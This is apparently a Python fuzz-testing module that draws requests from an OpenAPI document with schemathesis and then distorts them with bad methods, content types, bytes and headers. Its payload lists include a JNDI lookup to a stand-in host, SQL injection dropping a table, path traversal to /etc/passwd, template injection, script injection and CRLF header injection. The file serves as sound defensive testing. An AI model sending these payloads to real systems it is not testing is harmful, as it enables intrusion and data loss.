"""Calls as no browser makes them: what schemathesis draws from the document, and then bent.

schemathesis (https://schemathesis.readthedocs.io) draws values that the document allows and values
that it does not. What a document cannot say is added here: other methods, other kinds of content,
bytes that are no text, no mark of a page, noise in the headers. Words that are typed carry a
mark of :mod:`kmt.proof.marks`, so that they are found again wherever they end.
"""

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, urlencode

import schemathesis
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st
from schemathesis import Case, GenerationMode
from schemathesis.core import NotSet

from kmt.proof.endpoints import CARRIED, MULTIPART, URLENCODED, Schema
from kmt.proof.marks import STORY

Pairs = list[tuple[str, str]]
BOUNDARY = "kmt-proof-4d0c6a1f"
LONG = 200_000
#: A line of a request may be so long before a web server stops reading it.
LONGEST_LINE = 3_000
METHODS = ("HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "NIETS")
KINDS = (
    "application/json",
    "text/plain",
    "application/xml",
    "multipart/form-data",
    "multipart/form-data; boundary=",
    "application/x-www-form-urlencoded; charset=utf-16",
    "application/x-www-form-urlencoded; charset=bestaat-niet",
    "application/x-www-form-urlencoded; charset=\xff",
    "",
)
NOISE = {
    "Accept-Language": "xx-" + "q" * 500,
    "Content-Encoding": "gzip",
    "Cookie": "kmt_werk=\xff\xfe; csrftoken=; =; ;;",
    "If-Modified-Since": "gisteren",
    "If-None-Match": '"' + "x" * 500,
    "Range": "bytes=-1,5-2,99999999999999999999-",
    "Referer": f"https://kwaad.example/{STORY}",
    "Origin": "null",
    "User-Agent": f"{STORY}/1.0 ${{jndi:ldap://kwaad.example}}",
    "X-Forwarded-For": f"{STORY}, 203.0.113.9",
    "X-Forwarded-Host": "kwaad.example",
    "X-Http-Method-Override": "DELETE",
    "X-Requested-With": "XMLHttpRequest",
    "Authorization": f"Basic {STORY}",
}
VALUES = (
    f"{STORY}\0{STORY}",
    f"{STORY} \ud800 \udfff",
    f"{STORY} {{{{7*7}}}} {{% debug %}} <script>alert(1)</script>",
    f"{STORY}' OR '1'='1'; DROP TABLE intake_report; --",
    f"../../../../etc/passwd {STORY}",
    f"{STORY} \u202e\ufeff\u0600\U000e0001 a{chr(0x301) * 300}",
    f"{STORY}\r\nSet-Cookie: a=b",
    "9" * 400,
    "-1",
    "1e999",
    "NaN",
    "٣",
    "0001-01-01",
    "9999-12-31",
    "2026-02-30T25:61:61+99:99",
    "",
)
TWISTS = (
    *("plain", "plain", "value", "value", "value", "long", "method", "kind", "bytes", "cut"),
    *("no mark", "noise", "many", "twice", "language", "query"),
)
LANGUAGES = ("en", "pl", "ar", "uk", "xx")


@dataclass(frozen=True, slots=True, kw_only=True)
class Call:
    """One request, as it goes out; ``marked``: with the mark of a page that this person has."""

    method: str
    path: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""
    marked: bool = True
    twist: str = "plain"


def operations(document: Schema) -> list[Any]:
    """What can be asked of each address."""
    drawn: Any = schemathesis.openapi.from_dict(document)
    return [one.ok() for one in drawn.get_all_operations()]


def draw_calls(
    operation: Any, count: int, number: int, carried: Pairs, take: Callable[[Call], None]
) -> None:
    """Hand over so many calls of this operation, the same at every run with this number.

    Each is bent in another way, in turn, so that no bend is left to chance.
    """
    for turn in range(count):
        take(
            _drawn(calls(operation, carried, TWISTS[(number + turn) % len(TWISTS)]), number + turn)
        )


def _drawn(strategy: st.SearchStrategy[Call], number: int) -> Call:
    """One call, drawn by lot: not the first, which is the simplest there is."""
    found: list[Call] = []

    @seed(number)
    @settings(
        max_examples=2,
        database=None,
        deadline=None,
        suppress_health_check=list(HealthCheck),
        phases=[Phase.generate],
    )
    @given(strategy)
    def run(call: Call) -> None:
        found.append(call)

    run()
    return found[-1]


@st.composite
def calls(draw: st.DrawFn, operation: Any, carried: Pairs, twist: str) -> Call:
    """A call that was drawn from the document, and bent in this way."""
    mode = draw(st.sampled_from((GenerationMode.POSITIVE, GenerationMode.NEGATIVE)))
    case: Case[Any] = draw(operation.as_strategy(generation_mode=mode))
    hostile = draw(st.sampled_from(VALUES))
    if twist == "long":
        hostile = STORY + "x" * LONG
    asked = _pairs(case.query)
    method, path = case.method.upper(), _path(case)
    headers = {str(name): _latin(value) for name, value in dict(case.headers or {}).items()}
    body = b""
    if method == "POST":
        kind, body = _body(draw, case, twist, hostile, carried)
        headers["Content-Type"] = kind
    if twist in {"value", "query"}:
        names = draw(st.lists(st.sampled_from(("lijst", "pagina", "toon", "van")), min_size=1))
        asked += [(name, hostile) for name in names]
    if twist == "method":
        method = draw(st.sampled_from(METHODS))
    elif twist == "kind":
        headers["Content-Type"] = draw(st.sampled_from(KINDS))
    elif twist == "noise":
        noise = draw(st.lists(st.sampled_from(sorted(NOISE)), min_size=1, max_size=4))
        headers |= {name: NOISE[name] for name in noise}
    elif twist == "language":
        path = f"/{draw(st.sampled_from(LANGUAGES))}{path}"
    line = path + ("?" + _encoded(asked).decode() if asked else "")
    return Call(
        method=method,
        path=line[:LONGEST_LINE].rstrip("%") if len(line) > LONGEST_LINE else line,
        headers=headers,
        body=body,
        marked=twist != "no mark",
        twist=twist,
    )


def _path(case: Case[Any]) -> str:
    """The address, whatever was drawn for its places."""
    path = str(case.path)
    for name, value in dict(case.path_parameters or {}).items():
        path = path.replace(f"{{{name}}}", quote(_text(value).encode("utf-8", "surrogatepass"), ""))
    return path


def _body(
    draw: st.DrawFn, case: Case[Any], twist: str, hostile: str, carried: Pairs
) -> tuple[str, bytes]:
    """What is sent, and as which kind of content."""
    if case.media_type == "application/json":
        typed = None if isinstance(case.body, NotSet) else case.body
        if isinstance(typed, dict) and typed and twist in {"value", "long"}:
            typed = typed | {draw(st.sampled_from(sorted(typed))): hostile}
        kind, body = "application/json", json.dumps(typed, default=str).encode()
    else:
        pairs = _pairs(case.body if isinstance(case.body, dict) else {})
        hit = draw(st.sampled_from(_names(case)))
        pairs = _bent(pairs, twist, (hit, hostile), carried)
        files = case.media_type == MULTIPART
        kind = f"{MULTIPART}; boundary={BOUNDARY}" if files else URLENCODED
        body = _multipart(pairs) if files else _encoded(pairs)
    if twist == "bytes":
        body += b"&narrative=%ff%fe%zz\xff\xfe\x00%u0041&=&&" + STORY.encode()
    return kind, body[: len(body) // 2] if twist == "cut" else body


def _bent(pairs: Pairs, twist: str, hit: tuple[str, str], carried: Pairs) -> Pairs:
    """The fields of a form, one of them hit, or too many, or each of them twice."""
    if twist in {"value", "long"}:
        pairs = [one for one in pairs if one[0] != hit[0]] + [hit]
    elif twist == "many":
        pairs = pairs + [(f"veld{number}", STORY) for number in range(2_000)]
    elif twist == "twice":
        pairs = pairs + pairs
    if twist != "no mark":
        pairs = [one for one in pairs if one[0] not in dict(carried)] + carried
    return pairs


def _names(case: Case[Any]) -> list[str]:
    """The fields of the forms of this address."""
    content = case.operation.definition.raw["requestBody"]["content"]
    known = next(iter(content.values()))["schema"]["properties"]
    return sorted(set(known) - set(CARRIED)) or sorted(CARRIED)


def _pairs(values: Any) -> Pairs:
    return list(_each(dict(values))) if isinstance(values, dict) or values else []


def _each(values: dict[Any, Any]) -> Iterator[tuple[str, str]]:
    for name, value in values.items():
        for one in value if isinstance(value, list) else [value]:
            yield str(name), _text(one)


def _text(value: Any) -> str:
    raw = getattr(value, "data", value)
    if isinstance(raw, bytes):
        return raw.decode("latin-1")
    return value if isinstance(value, str) else json.dumps(value, default=str)


def _latin(value: Any) -> str:
    """A value that may stand in a header at all."""
    text = _text(value).encode("latin-1", "replace").decode("latin-1")
    return "".join(one for one in text if one.isprintable()).strip()


def _encoded(pairs: Pairs) -> bytes:
    return urlencode(pairs, encoding="utf-8", errors="surrogatepass").encode()


def _multipart(pairs: Pairs) -> bytes:
    parts = []
    for number, (name, value) in enumerate(pairs):
        file = f'; filename="{STORY}{number}.txt"' if name == "attachment" else ""
        head = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"{file}\r\n\r\n'
        parts.append(f"{head}{value}\r\n".encode("utf-8", "surrogatepass"))
    return b"".join([*parts, f"--{BOUNDARY}--\r\n".encode()])
